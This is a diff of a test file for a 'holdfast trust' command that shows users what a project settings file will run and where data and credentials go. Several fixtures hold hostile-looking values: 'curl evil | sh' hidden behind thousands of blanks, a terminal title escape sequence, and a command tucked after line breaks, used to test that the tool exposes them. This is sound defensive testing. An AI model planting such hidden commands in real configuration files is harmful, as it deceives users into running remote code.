@@ -54,11 +54,11 @@ describe('holdfast trust', () => {
       '  handlers  lib/handlers.mjs',
       '  port      8000',
       'Once you trust it:',
+      `  qo worker runs, in ${clone.path('repo')}: mail=./send.sh; x=curl evil\\x1b]0;title`,
+      `  qo worker runs the code in ${clone.path('repo/lib/handlers.mjs')}, also once that changes.`,
+      '  port takes effect: the port to listen on: coven serve, holdfast serve.',
       '  Data goes to nats://its-host:4222.',
       '  Credentials go there, too: NATS_USER, NATS_PASSWORD.',
-      `  qo worker runs, in ${clone.path('repo')}: mail=./send.sh; x=curl evil\\x1b]0;title`,
-      `  qo worker runs the code in ${clone.path('repo/lib/handlers.mjs')}, whatever that will be.`,
-      '  port takes effect: the port to listen on: coven serve, holdfast serve.',
       `Trusted: ${file}`,
       '',
     ])
@@ -77,8 +77,15 @@ describe('holdfast trust', () => {
     const env = { AWS_SESSION_TOKEN: 's3cret' }
     const { stdout } = await clone.run(holdfast, ['trust'], { env })
     assert.match(stdout, /Data goes to s3:\/\/bucket\?endpoint=http:\/\/its-host:9000\./)
-    assert.match(stdout, /Credentials go there, too: AWS_SESSION_TOKEN\./)
+    assert.match(
+      stdout,
+      /Credentials go there, too: AWS_SESSION_TOKEN and those of your AWS profile or role\./,
+    )
     assert.ok(!stdout.includes('s3cret'))
+    const pair = { AWS_ACCESS_KEY_ID: 'k', AWS_SECRET_ACCESS_KEY: 's3cret' }
+    assert.equal((await trust('--revoke')).exit, 0)
+    const keyed = await clone.run(holdfast, ['trust'], { env: pair })
+    assert.match(keyed.stdout, /there, too: AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY\./)
     clone.write('repo/.holdfast.yaml', 'store: s3://other\n')
     assert.match(
       (await trust()).stdout,
@@ -95,11 +102,43 @@ describe('holdfast trust', () => {
     assert.deepEqual(rest, {
       ...{ path, kind: 'project', trusted: true, store: 'nats://its-host:4222', credentials: [] },
       keys: ['store', 'exec', 'handlers', 'port'],
+      settings: [
+        { key: 'store', values: ['nats://its-host:4222'] },
+        { key: 'lease', values: ['30s'] },
+        { key: 'exec', values: ['mail=./send.sh', 'x=curl evil\u001b]0;title'] },
+        { key: 'handlers', values: ['lib/handlers.mjs'] },
+        { key: 'port', values: ['8000'] },
+      ],
     })
     assert.equal((await json()).changed, false)
     const { exit, stdout } = await trust()
     assert.deepEqual([exit, stdout], [0, `Already trusted: ${path}\n`])
     assert.equal((await trust('--quiet')).stdout, '')
+  })
+
+  test('says where data goes by a link', async () => {
+    mkdirSync(clone.path('outside'))
+    symlinkSync('../outside', clone.path('repo/data'))
+    clone.write('repo/.holdfast.yaml', 'store: sqlite:data/x.db\n')
+    const real = clone.path('outside/x.db')
+    const goes = `  Data goes to sqlite:${clone.path('repo/data/x.db')}, which is a link to ${real}`
+    assert.ok((await trust()).stdout.includes(`${goes}.\n`))
+    assert.equal((await json()).data.file, real)
+  })
+
+  test('hides no part of a command behind blanks or line breaks', async () => {
+    const wide = `mail=echo hi${' '.repeat(20_000)}; curl evil | sh${'\u00a0'.repeat(20_000)}`
+    const command = JSON.stringify(`mail=echo hi\n\n# curl evil`)
+    clone.write('repo/.holdfast.yaml', `store: nats://its-host\nexec: [${command}, "${wide}"]\n`)
+    const { stdout } = await trust()
+    const lines = stdout.split('\n')
+    assert.equal(lines[2], '  exec   mail=echo hi\\x0a\\x0a# curl evil')
+    assert.equal(lines[3], '  exec   mail=echo hi (20000 blanks) ; curl evil | sh (20000 blanks) ')
+    assert.ok(stdout.length < 1_000)
+    assert.match(lines.at(-4) ?? '', /^ {2}Data goes to nats:\/\/its-host\.$/)
+    const config = clone.write('repo/.coven/config.yaml', `a: 1\n${'\n'.repeat(500)}\n\nb: 2\n`)
+    const shown = (await trust(config)).stdout.split('\n')
+    assert.deepEqual(shown.slice(1, 4), ['  a: 1', '  (502 empty lines)', '  b: 2'])
   })
 
   test('asks on a terminal, and takes nothing but a yes for one', async () => {
@@ -166,6 +205,7 @@ describe('holdfast trust', () => {
       [[clone.path('repo/.coven')], 3, /There is no file/],
       [[other], 2, /is no settings file of a directory/],
       [[''], 2, /FILE is empty/],
+      [['x'.repeat(300)], 2, /can't be read: ENAMETOOLONG/],
       [['--list', other], 2, /--list takes no FILE/],
       [['--list', '--revoke'], 2, /exclude each other/],
       [[other, other], 2, /takes no argument/],
@@ -210,6 +250,24 @@ describe('holdfast trust --list and --revoke', () => {
     const { exit, stdout, stderr } = await trust('--list')
     assert.deepEqual([exit, stdout], [0, ''])
     assert.match(stderr, /No file is trusted\. Trust one with: holdfast trust FILE/)
+  })
+
+  test('take trust back from a file that a link has replaced, and from what the link leads to', async () => {
+    const file = clone.write('repo/.holdfast.yaml', 'port: 1\n')
+    const other = clone.write('other/.holdfast.yaml', 'port: 1\n')
+    for (const [trusted, ...gone] of [
+      [[file], file],
+      [[file, other], other, file],
+    ] as const) {
+      for (const each of trusted) await clone.trust(each)
+      rmSync(file)
+      symlinkSync('../other/.holdfast.yaml', file)
+      const lines = gone.map((path) => `No longer trusted: ${path}\n`)
+      assert.equal((await trust('--revoke')).stdout, lines.join(''))
+      assert.deepEqual((await json('--list')).data, [])
+      rmSync(file)
+      clone.write('repo/.holdfast.yaml', 'port: 1\n')
+    }
   })
 
   test('take trust back, also of a file that is gone, and say where there was none', async () => {
